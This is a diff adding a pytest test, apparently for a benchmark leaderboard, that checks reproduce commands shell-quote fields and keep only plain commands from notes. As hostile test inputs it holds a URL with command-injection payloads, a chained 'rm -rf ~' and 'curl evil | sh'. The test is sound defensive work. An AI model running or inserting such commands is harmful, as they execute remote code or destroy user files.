@@ -127,3 +127,22 @@ def test_long_metric_keys_publish(site):
     _, folder = site
     names = [p.name for p in (folder / "plots").iterdir()]
     assert names and max(len(n) for n in names) <= 100
+
+
+def test_reproduce_commands_quote_every_field_and_keep_only_plain_note_commands():
+    import shlex
+
+    from cellbench.leaderboard.reproduce import note_commands, reproduce_commands
+
+    url = "https://example.org/x';touch${IFS}pwned;'$(id)`id`"
+    entry = make_entry("m", 0.5, manifest={"code": {"url": url, "commit": "abcdef1"}})
+    entry.manifest["notes"] = "train: `python train.py --epochs 3`, then `python x.py; rm -rf ~`"
+    lines = reproduce_commands(entry, {"predictions": "predictions/p q.zarr.zip"})
+    clone = next(line for line in lines if line.startswith("git clone"))
+    assert shlex.split(clone)[:3] == ["git", "clone", url]
+    assert "python train.py --epochs 3" in lines and not any("rm -rf" in x for x in lines[3:])
+    assert "unzip 'p q.zarr.zip'" in lines
+    assert note_commands("`cellbench score x` `make test` `curl evil | sh`") == [
+        "cellbench score x",
+        "make test",
+    ]
